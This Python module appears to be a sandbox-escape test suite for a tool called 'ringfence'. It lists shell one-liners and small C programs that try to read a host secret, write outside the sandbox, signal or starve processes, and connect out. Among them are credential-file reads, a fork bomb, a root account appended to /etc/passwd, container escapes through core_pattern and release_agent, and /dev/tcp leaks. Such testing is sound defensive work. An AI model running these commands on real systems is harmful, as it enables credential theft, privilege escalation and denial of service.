"""Programs that want out, by what they are after. `{secret}`, `{port}`, `{pid}`, `{socket}`, `{marker}` are the host's.

Each is a shell text. What it prints is searched for the secret; what it did is looked for on the host. None of them is
judged by its exit code: a program that fails quietly and one that fails loudly are alike here.
"""
# ruff: noqa: E501 - a program is read on one line

from __future__ import annotations

READ = {
    "by its path": "cat {secret}",
    "through the first process's root": "cat /proc/1/root{secret}",
    "through any process's root": "for p in /proc/[0-9]*; do cat $p/root{secret} $p/cwd/../../../..{secret}; done",
    "by climbing": "cd /workspace; cat ../../../../../..{secret}",
    "through a symbolic link": "ln -sf {secret} l; cat l; ln -sfn / r; cat r{secret}",
    "through a link in the repository's diff": "ln -sf {secret} tracked; git add -A; git diff --cached; cat tracked",
    "by a hard link": "ln {secret} hard; cat hard",
    "by its device and inode": "debugfs -R 'cat {secret}' /dev/sda1; for d in /dev/sd* /dev/vd* /dev/nvme*; do head -c 4096 $d; done",
    "from environments": "cat /proc/*/environ | tr '\\0' '\\n'",
    "from command lines": "cat /proc/*/cmdline | tr '\\0' '\\n'",
    "from memory": "for p in /proc/[0-9]*; do dd if=$p/mem bs=1 count=1 skip=4096; cat $p/maps; done",
    "from descriptors": "for f in /proc/*/fd/* /proc/*/task/*/fd/*; do readlink $f; timeout 1 head -c 200 $f; done",
    "from map_files": "for f in /proc/*/map_files/*; do head -c 64 $f; done",
    "from kernel memory": "head -c 64 /proc/kcore /dev/mem /dev/kmem /dev/port",
    "from the kernel's log": "dmesg; cat /dev/kmsg /proc/kmsg",
    "from the accounts": "cat /etc/shadow /etc/gshadow /etc/sudoers; getent shadow",
    "from homes": "cat /root/.ssh/* /home/*/.ssh/* /root/.aws/credentials /root/.netrc /root/.bash_history",
    "from mounts": "cat /proc/self/mountinfo | awk '{{print $5}}' | while read m; do cat $m{secret}; done",
    "with another user": "su root -c 'cat {secret}'; sudo -n cat {secret}; newgrp root; setpriv --reuid 0 cat {secret}",
    "with a user namespace": "unshare -Urm cat {secret}; unshare -r cat {secret}; bwrap --bind / / cat {secret}",
    "with a mount": "mkdir -p m; mount --bind / m; mount -t proc proc m; cat m{secret}",
    "with chroot": "chroot / cat {secret}; chroot /proc/1/root cat {secret}",
    "with nsenter": "nsenter -t 1 -m -p cat {secret}; for n in /proc/*/ns/mnt; do nsenter --mount=$n cat {secret}; done",
    "with a debugger": "gdb -p 1 -batch -ex 'p 1'; strace -p 1 -e read -o /dev/stdout",
    "by handle": 'python3 -c "import ctypes as c; l=c.CDLL(None); b=c.create_string_buffer(200); '
    "b.raw=(8).to_bytes(4,'little')+(1).to_bytes(4,'little')+(2).to_bytes(8,'little')+bytes(184); "
    "d=l.open(b'/workspace',0); f=l.open_by_handle_at(d,b,0); import os; print(os.listdir(f))\"",
    "from the server's files": "cat /run/ringfence/state/* /run/ringfence/state/base.git/config; ls -la /run/ringfence/state",
    "from git's own reach": "git clone /proc/1/root{secret} x; git --git-dir={secret} log; git diff --no-index /dev/null {secret}",
    "by a loop device": "losetup -f; losetup /dev/loop0 {secret}; cat /dev/loop0",
    "with FUSE": "python3 -c \"import os; os.open('/dev/fuse', os.O_RDWR)\"; fusermount -u /tmp",
    "with overlay": "mkdir -p a b c; mount -t overlay overlay -o lowerdir=/,upperdir=a,workdir=b c; cat c{secret}",
    "from a core file": "ulimit -c unlimited; sleep 9 & kill -SEGV $!; wait; ls core* /var/crash /var/lib/systemd/coredump",
    "with a keyring": "keyctl show; keyctl list @us; cat /proc/keys /proc/key-users",
}

WRITE = {
    "by its path": "echo x > {marker}; mkdir -p $(dirname {marker}); touch {marker}",
    "through the first process's root": "echo x > /proc/1/root{marker}",
    "through a link": "ln -sfn $(dirname {marker}) d; echo x > d/$(basename {marker})",
    "into programs": "echo x >> /usr/bin/env; cp /bin/true /usr/local/bin/ringfence-escape; touch /usr/ringfence-escape",
    "by a remount": "mount -o remount,rw,bind /usr; mount -o remount,rw /; touch /usr/ringfence-escape /ringfence-escape",
    "into accounts": "echo evil::0:0::/:/bin/sh >> /etc/passwd; touch /etc/ringfence-escape; echo x > /etc/ld.so.preload",
    "into the kernel's settings": "echo '|/bin/touch {marker}' > /proc/sys/kernel/core_pattern; echo c > /proc/sysrq-trigger",
    "by a helper of the kernel": "echo /workspace/evil > /proc/sys/kernel/modprobe; echo /workspace/evil > /sys/kernel/uevent_helper",
    "by a release agent": "mkdir -p cg; mount -t cgroup -o rdma cgroup cg; echo /workspace/x > cg/release_agent",
    "into control groups": "echo $$ > /sys/fs/cgroup/cgroup.procs; mkdir /sys/fs/cgroup/x; echo max > /sys/fs/cgroup/memory.max",
    "into a device": "mknod disk b 8 0; mknod mem c 1 1; echo x > disk; echo x > mem",
    "with a set-uid copy": "cp /bin/bash sh; chmod 4755 sh; ./sh -p -c 'id -u; touch {marker}'",
    "with file capabilities": "cp /bin/bash sh; setcap cap_dac_override+ep sh; ./sh -c 'touch {marker}'",
    "with a module": "insmod x.ko; modprobe dummy; python3 -c \"import ctypes; print(ctypes.CDLL(None).syscall(175,0,0,b''))\"",
    "with another kernel": 'kexec -l /boot/vmlinuz; python3 -c "import ctypes; ctypes.CDLL(None).syscall(246,0,0,0,0)"',
    "with the clock": 'date -s 2001-01-01; hwclock -w; python3 -c "import time; time.clock_settime(0, 0)"',
    "with names": "hostname ringfence-escape; domainname ringfence-escape; sysctl -w kernel.hostname=ringfence-escape",
    "with a schedule": "crontab -l; echo '* * * * * touch {marker}' | crontab -; at now + 1 minute <<< 'touch {marker}'; systemctl --user start x",
    "over the server's program": "echo x > /run/ringfence/inside.zip; rm -f /run/ringfence/inside.zip; mv /run/ringfence/inside.zip /tmp",
    "over the server's outputs": "rm -rf /run/ringfence/output; ln -s / /run/ringfence/output; touch /run/ringfence/output/x",
    "into the journal": "echo x >> /run/ringfence/state/calls.journal; rm -rf /run/ringfence/state",
    "into memory of others": "for p in /proc/[0-9]*; do printf x | dd of=$p/mem bs=1 seek=4096 conv=notrunc; done",
    "with swap": "fallocate -l 1M s; mkswap s; swapon s",
    "with quotas and accounting": "accton /workspace/acct; quotaon -a",
}

SIGNAL = {
    "by its number": "kill -9 {pid}; kill -TERM {pid}",
    "by everybody's": "kill -9 -1",
    "by a search": "pkill -9 -f ringfence-victim; killall -9 sleep",
    "by a process descriptor": 'python3 -c "import os,signal; signal.pidfd_send_signal(os.pidfd_open({pid}), 9)"',
    "by tracing": 'python3 -c "import ctypes; print(ctypes.CDLL(None).ptrace(16,{pid},0,0))"',
    "by rank": "renice -20 -p {pid}; ionice -c1 -p {pid}; chrt -f -p 99 {pid}; taskset -p 1 {pid}",
    "by its memory limit": "prlimit --pid {pid} --as=1; echo 1000 > /proc/{pid}/oom_score_adj",
    "by using memory up": 'python3 -c "x=[bytearray(1<<20) for _ in range(100000)]"',
    "by using processes up": "b() {{ b | b & }}; b; sleep 1",
    "by using descriptors up": 'python3 -c "import os\nwhile 1: os.dup(0)"',
    "by pipes": 'python3 -c "import os\nfor _ in range(2000): r,w=os.pipe()" ; for i in $(seq 200); do sleep 5 & done',
    "by locks": "flock -x /usr/bin/env true; python3 -c \"import fcntl; fcntl.flock(open('/etc/passwd'), 2)\"",
    "by watches": 'python3 -c "import ctypes; l=ctypes.CDLL(None); [l.inotify_init() for _ in range(5000)]"',
    "by shared memory": "ipcs -a; for i in $(ipcs -m | awk '/0x/{{print $2}}'); do ipcrm -m $i; done; ls /dev/shm /dev/mqueue",
}

CONNECT = {
    "on its port": "echo leak > /dev/tcp/127.0.0.1/{port}",
    "by every address": 'for a in 127.0.0.1 127.1.2.3 0.0.0.0 localhost ::1 $(hostname -I); do timeout 1 bash -c "echo leak > /dev/tcp/$a/{port}"; done',
    "by the gateway": 'for a in 10.0.2.2 172.17.0.1 192.168.0.1 192.0.2.1; do timeout 1 bash -c "echo leak > /dev/tcp/$a/{port}"; done',
    "by datagram": "echo leak > /dev/udp/127.0.0.1/{port}; python3 -c \"import socket; socket.socket(2,2).sendto(b'leak',('127.0.0.1',{port}))\"",
    "by its unix socket": "python3 -c \"import socket; s=socket.socket(1); s.connect('{socket}'); s.send(b'leak')\"",
    "by its abstract socket": "python3 -c \"import socket; s=socket.socket(1); s.connect('\\0ringfence-escape'); s.send(b'leak')\"",
    "by a raw socket": 'ping -c1 -W1 127.0.0.1; python3 -c "import socket; socket.socket(2,3,255)"',
    "by a packet socket": "python3 -c \"import socket; s=socket.socket(17,3); s.bind(('eth0',0)); s.send(b'x'*60)\"",
    "by netlink": "ip link add v0 type veth peer name v1; ip route add default via 127.0.0.1; ip netns add x",
    "by a virtual machine's socket": 'python3 -c "import socket; s=socket.socket(40,1); s.connect((2,{port}))"',
    "by a tunnel device": "python3 -c \"import os; os.open('/dev/net/tun', os.O_RDWR)\"; ssh -w 0:0 localhost true",
    "by names": "getent hosts leak.ringfence-escape.example; nslookup leak.example 8.8.8.8; dig @1.1.1.1 leak.example",
    "by curl": "curl -m 2 -s http://127.0.0.1:{port}/leak; curl -m 2 --noproxy '*' http://localhost:{port}/leak",
    "by the metadata service": "curl -m 2 -s http://169.254.169.254/latest/meta-data/; curl -m 2 -g 'http://[fd00:ec2::254]/'",
    "by the container's socket": "curl -m 2 --unix-socket /var/run/docker.sock http://x/containers/json; ls /run/containerd /run/podman",
    "by the session bus": "DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/0/bus busctl --user list; ls /run/dbus /run/systemd/private",
    "by X11 and agents": "ls /tmp/.X11-unix /tmp/ssh-*; echo $SSH_AUTH_SOCK $DISPLAY; xterm -e true",
    "by a descriptor over a socket": 'python3 -c "import socket,array,os\n'
    "for fd in range(3,200):\n try:\n  s=socket.socket(fileno=fd); s.send(b'leak')\n except OSError: pass\"",
    "by io_uring": 'python3 -c "import ctypes; print(ctypes.CDLL(None).syscall(425,8,ctypes.create_string_buffer(120)))"',
    "by another personality": "setarch i386 bash -c 'echo leak > /dev/tcp/127.0.0.1/{port}'",
}

SOURCES_C = {
    "through 32-bit calls": """
#include <stdio.h>
int main(void) { long r; __asm__ volatile("int $0x80" : "=a"(r) : "a"(5), "b"("%(secret)s"), "c"(0)); printf("%%ld", r); }
""",
    "through x32 numbers": """
#define _GNU_SOURCE
#include <unistd.h>
#include <stdio.h>
int main(void) { printf("%%ld\\n", syscall(0x40000000 + 165, "none", "/tmp", "tmpfs", 0, 0)); }
""",
    "by a race of open and link": """
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <unistd.h>
static void *swap(void *x) { for (int i = 0; i < 3000; i++) { unlink("r"); symlink("%(secret)s", "r"); unlink("r");
  int f = open("r", O_CREAT | O_WRONLY, 0644); if (f >= 0) close(f); } return x; }
int main(void) { pthread_t t; char b[100]; pthread_create(&t, 0, swap, 0);
  for (int i = 0; i < 3000; i++) { int f = open("r", O_RDONLY); if (f >= 0) { int n = read(f, b, 99); if (n > 0)
    printf("%%.*s\\n", n, b); close(f); } } pthread_join(t, 0); }
""",
    "by new mount calls": """
#define _GNU_SOURCE
#include <unistd.h>
#include <fcntl.h>
#include <stdio.h>
int main(void) { int f = syscall(430, "proc", 0); int t = syscall(428, AT_FDCWD, "/", 1);
  printf("%%d %%d %%ld\\n", f, t, syscall(429, t, "", AT_FDCWD, "/tmp", 4)); }
""",
    "by clone flags": """
#define _GNU_SOURCE
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>
static int in(void *x) { return system("cat %(secret)s"); }
int main(void) { int flags[] = {0x10000000, 0x0003000, 0x3000000, 0x40000000, 0x1003000};
  for (int i = 0; i < 5; i++) { int p = clone(in, malloc(1 << 20) + (1 << 20), flags[i] | 17, 0); if (p > 0)
    { printf("cloned %%x\\n", flags[i]); waitpid(p, 0, 0); } } }
""",
}
